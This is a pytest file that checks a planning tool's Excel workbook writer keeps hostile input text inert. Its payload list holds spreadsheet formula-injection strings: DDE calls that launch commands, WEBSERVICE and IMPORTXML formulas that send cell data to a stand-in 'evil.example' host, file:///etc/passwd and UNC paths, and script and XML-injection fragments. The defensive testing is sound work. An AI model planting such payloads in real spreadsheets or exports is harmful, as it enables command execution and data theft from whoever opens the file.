"""Texts of the inputs stay texts in every part of the workbook, whatever they hold."""

from __future__ import annotations

import dataclasses
import re
import zipfile
from collections.abc import Iterator
from xml.etree import ElementTree

import openpyxl
import pytest
from plan_samples import sample_plan

from planner.reports.excel.plan_workbook import SHEETS, write_plan_workbook
from planner.reports.excel.tokens import has_workloads
from planner.workbook.rows import Inputs, Row

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|'/C'!A0",
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example","click")',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/"),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "https://evil.example/x",
    "http://evil.example",
    "ftp://evil.example/x",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "internal:'Summary'!A1",
    "external:c:\\x.xlsx",
    "[evil.xlsx]Sheet1!A1",
    "=Costs!$C$4",
    "Costs!$C$4",
    "\\\\evil.example\\share\\x",
    "<script>alert(1)</script>",
    "</f><f>1+1</f>",
    "]]><f>1</f>",
    "&quot;&amp;&#61;1+1",
    "&A &P &N &D &T &F &G &Z",
    '&L&"Arial"&99x',
    "\x00=1+1",
    "\x1b[31m\u202ered",
    "\ufffe\ud800",
    "_x003D_1+1",
    "\uff1d1+1",
    "x" * 40_000,
    "{first}{0}#",
    "%s%n",
)
FUNCTIONS = {
    "SUM",
    "SUBTOTAL",
    "SUMIFS",
    "COUNTIFS",
    "SUMPRODUCT",
    "EXACT",
    "ROUND",
    "ROUNDUP",
    "ROUNDDOWN",
    "AND",
    "ISNUMBER",
}
"""Functions of the workbook's own formulas; none of them reaches outside."""


def test_there_are_enough_payloads():
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 30


def hostile_plan(payload):
    """A plan with a payload in every text of its tables, summary, manifest, name and inputs."""
    plan = sample_plan()
    spare = {"firm", "basis", "term", "late", "already_late"}
    tables = {
        name: [
            {
                key: payload if type(value) is str and key not in spare else value
                for key, value in row.items()
            }
            for row in rows
        ]
        for name, rows in plan.tables.items()
    }
    summary = {key: _poisoned(value, payload) for key, value in plan.summary.items()}
    manifest = {payload: payload, **_poisoned(plan.manifest, payload)}
    findings = {
        kind: _poisoned_finding(finding, payload) for kind, finding in plan.findings.items()
    }
    return dataclasses.replace(
        plan,
        name=payload,
        tables=tables,
        summary=summary,
        manifest=manifest,
        inputs=_inputs(plan.inputs, payload),
        findings=findings,
    )


def _poisoned_finding(finding, payload):
    """A finding with a payload in every text, but for the cells, by which rows find each other."""
    tables = {
        name: [
            {
                key: payload if type(value) is str and key != "cell" else value
                for key, value in row.items()
            }
            for row in rows
        ]
        for name, rows in finding.tables.items()
    }
    return dataclasses.replace(finding, tables=tables, facts=_poisoned(finding.facts, payload))


def _poisoned(value, payload):
    if isinstance(value, dict):
        return {
            payload if key in ("CS-3", "NVL72") else key: _poisoned(inner, payload)
            for key, inner in value.items()
        }
    if isinstance(value, list):
        return [_poisoned(inner, payload) for inner in value]
    return payload if isinstance(value, str) and not re.match(r"\d{4}-", value) else value


def _inputs(inputs: Inputs, payload) -> Inputs:
    spare = {"basis", "class", "period", "setting"}
    tables = {
        name: tuple(
            Row(
                row.sheet,
                {
                    k: payload if type(v) is str and k not in spare else v
                    for k, v in row.values.items()
                }
                | {"source": payload},
                row.cells,
                row.blank,
            )
            for row in rows
        )
        for name, rows in inputs.tables.items()
    }
    return dataclasses.replace(inputs, name=payload, tables=tables)


def parts(path) -> Iterator[tuple[str, ElementTree.Element]]:
    """Every part of the file, which must be XML that can be read."""
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            yield name, ElementTree.fromstring(archive.read(name))


def local(element):
    return element.tag.rpartition("}")[2]


def formulas(path):
    """Every formula and reference of the file: of cells, conditions, charts and names."""
    kinds = ("f", "formula", "formula1", "formula2", "definedName")
    return [
        (name, local(element), element.text)
        for name, root in parts(path)
        for element in root.iter()
        if local(element) in kinds
    ]


@pytest.fixture(scope="module")
def harmless(tmp_path_factory):
    """The formulas of a plan of the same shape with harmless texts."""
    path = tmp_path_factory.mktemp("texts") / "p.xlsx"
    write_plan_workbook(hostile_plan("harmless"), path)
    return formulas(path)


def test_harmless_formulas_reach_nothing_outside(harmless):
    assert len(harmless) > 500
    for name, kind, text in harmless:
        assert set(re.findall(r"([A-Z]+)\(", text)) <= FUNCTIONS, (name, kind, text)
        sheets = re.findall(r"'([^']+)'!|\b([A-Za-z]+)!", text)
        assert {a or b for a, b in sheets} <= {sheet.name for sheet in SHEETS}
        assert "harmless" not in text


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_stays_a_text(tmp_path, harmless, payload):
    path = tmp_path / "p.xlsx"
    write_plan_workbook(hostile_plan(payload), path)
    assert formulas(path) == harmless
    sheets = []
    for name, root in parts(path):
        assert not re.search("vba|externalLink|connections|macro|query", name, re.IGNORECASE)
        for element in root.iter():
            kind = local(element)
            if kind == "sheet":
                sheets.append(element.get("name"))
            if kind == "hyperlink":
                assert re.fullmatch(r"'[\w ]+'!A1", element.get("location")), name
                assert not [key for key in element.attrib if key.endswith("}id")]
            if kind == "Relationship":
                assert element.get("TargetMode") != "External", (name, element.get("Target"))
            if kind in ("oddFooter", "oddHeader"):
                codes = re.findall("&.", (element.text or "").replace("&&", ""))
                assert codes == ["&L", "&8", "&C", "&8", "&R", "&8", "&P", "&N"]
            assert kind not in ("hlinkClick", "oleObject", "legacyDrawing", "control")
    assert sheets == [sheet.name for sheet in SHEETS if sheet.shown is not has_workloads]


def test_the_payload_is_there_to_be_read(tmp_path):
    path = tmp_path / "p.xlsx"
    write_plan_workbook(hostile_plan(PAYLOADS[0]), path)
    book = openpyxl.load_workbook(path)
    for name in (
        "Summary",
        "Purchase orders",
        "Ramp",
        "Sites",
        "Power",
        "Stock",
        "Assumptions",
        "Manifest",
        "Megawatt ledger",
    ):
        cells = [c for row in book[name].iter_rows() for c in row if PAYLOADS[0] in str(c.value)]
        assert {cell.data_type for cell in cells} == ({"s"} if cells else set())
        assert cells or name == "Stock", name
